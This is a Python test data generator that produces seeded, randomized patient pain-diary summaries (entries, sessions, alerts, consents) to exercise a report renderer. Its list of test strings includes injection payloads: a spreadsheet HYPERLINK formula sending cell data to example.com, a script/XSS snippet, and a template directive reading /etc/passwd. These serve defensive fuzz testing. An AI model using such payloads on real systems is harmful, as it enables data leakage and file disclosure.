"""Summaries by the hundred, each from a seed: long and short diaries, every symptom, hostile texts, all states of an alert."""

from dataclasses import replace
from datetime import date, timedelta
from random import Random
from uuid import UUID

from diary.clinical.intake import FLAGS, MODALITIES
from diary.clinical.symptoms import EXTRA_CHECK_BOXES, REGIONS, SYMPTOMS
from diary.reports.agreed import ConsentLine
from diary.reports.facts import AlertLine, Answer, OwnActivity, Peg, Reported, Summary
from diary.reports.words import CHANGES, CHRONICITIES, FUNCTIONS, OUTCOMES, RECOVERIES, RULES, TASKS
from tests.diary.reports.build import ASK, BEGIN, COURSE, DAY, HOUR, MAYA, line, sessions_every, summary_of

CODES = (*SYMPTOMS, *EXTRA_CHECK_BOXES)
TEXTS = (
    "Slept badly.",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "<script>alert(1)</script><b onclick='x()'>bold</b> & \"so on\" ]]>",
    '#read("/etc/passwd") $x$ *bold* <label>',
    "\u202egnirts desrever\u202c \u2066x\u2069",
    "a\u0000b\u0007c\u001bd\u007f\ufffe",
    "הכאב חזק בבוקר",
    "🤕👩\u200d⚕️",
    "\t\r\n ",
    "W" * 10_000,
)


def generated(seed: int) -> Summary:
    """One summary; the same for the same seed."""
    dice = Random(seed)
    days = dice.choice((0, 1, 3, 20, 60))
    entries = [_entry(dice, number) for number in range(days) if dice.random() < 0.8]
    until = BEGIN + (days + 1) * DAY
    sessions = tuple(
        replace(
            each,
            modality=dice.choice(MODALITIES),
            regions=tuple(dice.sample(REGIONS, 2)),
            recovery=dice.choice(list(RECOVERIES)).value,
            nrs_before=dice.choice((None, 4.0, 4.5)),
            needles=dice.choice((None, 8)),
        )
        for each in sessions_every(dice.choice((2, 7)), dice.choice((0, 1, 6)))
    )
    drawn = summary_of(
        entries,
        sessions=sessions,
        until=until,
        alerts=tuple(_alert(dice, number, entries) for number in range(dice.choice((0, 1, 5)))),
        patient=replace(
            MAYA,
            name=dice.choice(("Maya Lindqvist", *TEXTS)),
            sex=dice.choice((None, "female", "male", "other")),
            flags=tuple(sorted(dice.sample(sorted(FLAGS), dice.choice((0, 2, len(FLAGS)))))),
            phone=dice.choice(("", "+44 1632 960002")),
            language=dice.choice(("en-GB", "es")),
        ),
        course=replace(
            COURSE,
            region=dice.choice(REGIONS),
            regions=tuple(dice.sample(REGIONS, 3)),
            chronicity=dice.choice(list(CHRONICITIES)),
            onset_date=dice.choice((None, date(2025, 10, 1))),
        ),
        ask=replace(
            ASK,
            request=dice.choice(("", ASK.request, *TEXTS))[:400],
            recipient=dice.choice(("", "Dr Okafor", *TEXTS))[:120],
            tasks=tuple(dice.sample(sorted(TASKS), dice.choice((0, 2)))),
            by_patient=dice.random() < 0.3,
            practitioner_id=dice.choice((None, ASK.practitioner_id)),
        ),
        medicines=tuple(Reported(text, 2, BEGIN.date()) for text in dice.sample(TEXTS, dice.choice((0, 2)))),
        other_treatments=tuple(Reported(text, 1, BEGIN.date()) for text in dice.sample(TEXTS, dice.choice((0, 1)))),
        function=tuple(Answer(said, BEGIN.date()) for said in list(FUNCTIONS.values())[: dice.choice((0, 2))]),
        consents=(
            ConsentLine(
                UUID(int=0xD),
                "sharing",
                "2026-1",
                dice.random() < 0.5,
                BEGIN,
                proxy_name=dice.choice(("", "Rosa Ruiz", *TEXTS))[:80],
                proxy_relation="mother",
            ),
        )
        * dice.choice((0, 1)),
        peg=tuple(
            Peg(UUID(int=0x9E6 + week), BEGIN + week * 7 * DAY, BEGIN.date(), 6, 5, 7 - week)
            for week in range(dice.choice((0, 2)))
        ),
        activities=tuple(
            OwnActivity(
                UUID(int=0x9F6 + week), BEGIN + week * 7 * DAY, BEGIN.date(), dice.choice(TEXTS)[:120], 8 - week
            )
            for week in range(dice.choice((0, 2)))
        ),
    )
    return drawn if dice.random() < 0.7 else without_notes(drawn)


def without_notes(summary: Summary) -> Summary:
    entries = tuple(replace(entry, note="") for entry in summary.entries)
    return replace(summary, include_notes=False, notes=(), entries=entries)


def _entry(dice: Random, number: int):  # type: ignore[no-untyped-def]
    codes = dice.sample(CODES, dice.choice((0, 0, 1, 4)))
    score = dice.choice((None, float(dice.randrange(11)), 4.5))
    moment = BEGIN + number * DAY + timedelta(minutes=dice.randrange(600))
    return line(
        number,
        moment,
        3.0 if score is None and not codes else score,
        *codes,
        nrs_worst=dice.choice((None, 8.0)),
        nrs_now=dice.choice((None, 2.0)),
        stiffness=dice.choice((None, 3.0)),
        activity_nrs=dice.choice((None, 6.0)),
        regions=tuple(dice.sample([*REGIONS, "knee (left)", "shoulder (both)"], dice.choice((0, 1, 3)))),
        none_of_these=dice.choice((None, True)) if not codes else None,
        change=dice.choice((None, *CHANGES)),
        function=dice.choice((None, *FUNCTIONS)),
        recalled=dice.random() < 0.2,
        note=dice.choice(("", *TEXTS)),
        hours=dice.choice((None, 51.25)),
    )


def _alert(dice: Random, number: int, entries: list) -> AlertLine:  # type: ignore[type-arg]
    raised = BEGIN + number * HOUR
    state = dice.choice(("open", "acknowledged", "snoozed", "resolved", "withdrawn"))
    is_resolved = state == "resolved"
    return AlertLine(
        id=UUID(int=0xA1E + number),
        rule=dice.choice(list(RULES)),
        code=dice.choice(("", *SYMPTOMS)),
        level=dice.choice(("emergency", "urgent", "practitioner")),
        state=state,
        raised_at=raised,
        because=dice.choice(TEXTS),
        acknowledged_by=dice.choice((None, "Anna")),
        acknowledged_at=raised,
        outcome=dice.choice(list(OUTCOMES)) if is_resolved else "",
        resolved_by="Anna" if is_resolved else None,
        resolved_at=raised + HOUR if is_resolved else None,
        withdrawn_at=raised if state == "withdrawn" else None,
        readings=tuple(entry.id for entry in dice.sample(entries, min(2, len(entries)))),
    )
